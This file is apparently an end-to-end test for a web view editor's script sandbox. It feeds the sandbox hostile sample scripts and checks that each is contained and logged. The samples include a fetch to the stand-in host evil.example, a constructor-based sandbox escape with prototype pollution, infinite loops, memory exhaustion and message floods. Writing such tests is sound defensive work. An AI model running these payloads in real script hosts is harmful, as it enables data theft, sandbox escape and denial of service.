import { serverUrl } from '../support/api'
import { expect, test } from '../support/test'
import { storeView } from '../support/view'

/** What hostile scripts try, and the message that it comes to (none where the attempt simply reaches nothing). */
const attacks: readonly (readonly [name: string, script: string, message?: RegExp])[] = [
  ['loop', 'for (;;);', /运行时间过长/],
  // on a busy machine its time is over before its memory is full
  ['memory', 'const all = []; for (;;) all.push({})', /内存过多|运行时间过长/],
  ['fetch', `fetch('https://evil.example/stolen')`, /fetch/],
  ['document', `document.title = 'hacked'`, /document/],
  ['message', `for (;;) postMessage('flood')`, /postMessage/],
  [
    'constructor',
    `const world = view.get.constructor('return this')();
     world.hacked = 1; Object.prototype.hacked = 1; world.document.title = 'hacked'`,
    /TypeError/,
  ],
  ['flood', `for (let i = 0; i < 1e5; i++) { view.notify('flood'); view.openURL(HEALTH + '?' + i) }`],
]

test('hostile scripts reach nothing, are stopped and logged, and the page goes on living', async ({
  page,
  signIn,
}) => {
  const at = (index: number) => ({
    x: 20 + (index % 4) * 150,
    y: 100 + Math.floor(index / 4) * 60,
    width: 130,
  })
  const id = await storeView('e2e 脚本沙箱', {
    sources: [{ id: 'count', name: 'count', prop: 'count', value: 0 }],
    userScript: `view.set('count', 100); nothing.here()`,
    pages: [
      {
        id: '脚本',
        items: [
          { id: 'shown', type: 'text', x: 20, y: 20, width: 200, height: 40, content: '' },
          { id: 'add', type: 'button', content: 'add', x: 240, y: 20, width: 100, height: 40 },
          ...attacks.map(([name], index) => ({
            id: name,
            type: 'button',
            content: name,
            height: 40,
            ...at(index),
          })),
        ],
        bindings: [{ itemId: 'shown', propName: 'content', bindObj: 'count' }],
        events: [
          {
            itemId: 'add',
            eventAction: 'execScript',
            execScript: `view.set('count', view.get('count') + 1)`,
          },
          ...attacks.map(([itemId, script]) => ({
            itemId,
            eventAction: 'execScript',
            execScript: `const HEALTH = '${serverUrl()}/api/health'; ${script}`,
          })),
        ],
      },
    ],
  })
  const foreign: string[] = []
  page.context().on('request', (request) => {
    if (request.url().includes('evil.example')) foreign.push(request.url())
  })
  await page.context().route('https://evil.example/**', (route) => route.abort())
  await signIn('demo', 'viewer')
  await page.goto(`/systemDiagram/index?id=${id}`)
  const shown = page.locator('[data-item-id=shown]')
  // what the failing script asked for before it failed counts
  await expect(shown).toHaveText('100')
  const title = await page.title()

  let count = 100
  for (const [name] of attacks) {
    await page.getByRole('button', { name, exact: true }).click()
    await page.getByRole('button', { name: 'add', exact: true }).click()
    count += 1
    await expect(shown).toHaveText(String(count))
  }
  expect(page.context().pages().length).toBeLessThanOrEqual(2)
  expect(foreign).toEqual([])
  expect(await page.evaluate(() => ['hacked' in {}, 'hacked' in window])).toEqual([false, false])
  expect(await page.title()).toBe(title)

  await page.getByRole('button', { name: '错误日志' }).click()
  const log = page.getByRole('dialog', { name: '错误日志' })
  for (const [, , message] of attacks) if (message) await expect(log).toContainText(message)
})
